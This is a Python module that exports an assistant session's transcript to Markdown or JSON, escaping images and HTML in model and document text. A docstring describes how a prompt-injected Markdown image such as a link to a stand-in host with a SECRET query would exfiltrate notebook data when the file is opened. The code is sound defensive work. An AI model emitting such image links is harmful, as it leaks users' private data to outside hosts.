"""Writing a session's transcript (every answer, with citations and figures) as Markdown or JSON."""

from __future__ import annotations

import json
import re
from pathlib import Path
from typing import Any

from ..core.errors import SageError

_CODE = re.compile(r"(```.*?(?:```|\Z)|`[^`\n]*`)", re.S)
_TAG = re.compile(r"<(?=[A-Za-z/!?])")


def export(transcript: list[dict[str, Any]], path: str | Path) -> Path:
    """Write ``transcript`` as Markdown (.md) or JSON (.json); a path we cannot write is one paragraph."""
    target = Path(path).expanduser()
    if target.suffix not in (".md", ".json"):
        raise SageError(f"Cannot export to {target.name}: give a path ending in .md or .json.")
    if target.suffix == ".json":
        text = json.dumps(transcript, indent=2, default=str) + "\n"
    else:
        text = "".join(_markdown_turn(turn) for turn in transcript) or "_(no questions asked yet)_\n"
    try:
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_text(text, encoding="utf-8")
    except OSError as error:
        raise SageError(f"Cannot write the transcript to {target} ({error.strerror}). "
                        "Choose a folder you can write to.") from None
    return target


def _inert(text: str) -> str:
    """Model or document text for a Markdown file: an image becomes a link (``\\![``) and a raw HTML tag shows
    as text, outside code. A Markdown viewer draws both the moment the file opens, and a prompt-injected
    ``![](https://x/?q=SECRET)`` would be fetched, carrying notebook data out."""
    parts = _CODE.split(text)
    return "".join(part if i % 2 else _TAG.sub("&lt;", part.replace("![", "\\![")) for i, part in enumerate(parts))


def _markdown_turn(turn: dict[str, Any]) -> str:
    lines = [f"## You\n\n{_inert(turn['prompt'].strip())}\n",
             f"## {_inert(turn['model'])}\n\n{_inert(turn['answer'].strip())}\n"]
    if turn.get("cancelled"):
        lines.append("_(stopped by the user)_\n")
    lines.extend(_inert(f"{c['n']}. {c['source']}" + (f" ({c['location']})" if c["location"] else "")) + "\n"
                 for c in turn.get("citations", []))
    figures = [f"{turn.get('prompt_tokens')} tokens in, {turn.get('completion_tokens')} out",
               f"first token {turn['ttft_s'] * 1000:.0f} ms" if turn.get("ttft_s") is not None else "",
               f"{turn['tokens_per_s']} tok/s" if turn.get("tokens_per_s") else ""]
    lines.append("\n_" + ", ".join(f for f in figures if f) + "_\n\n")
    return "\n".join(lines)
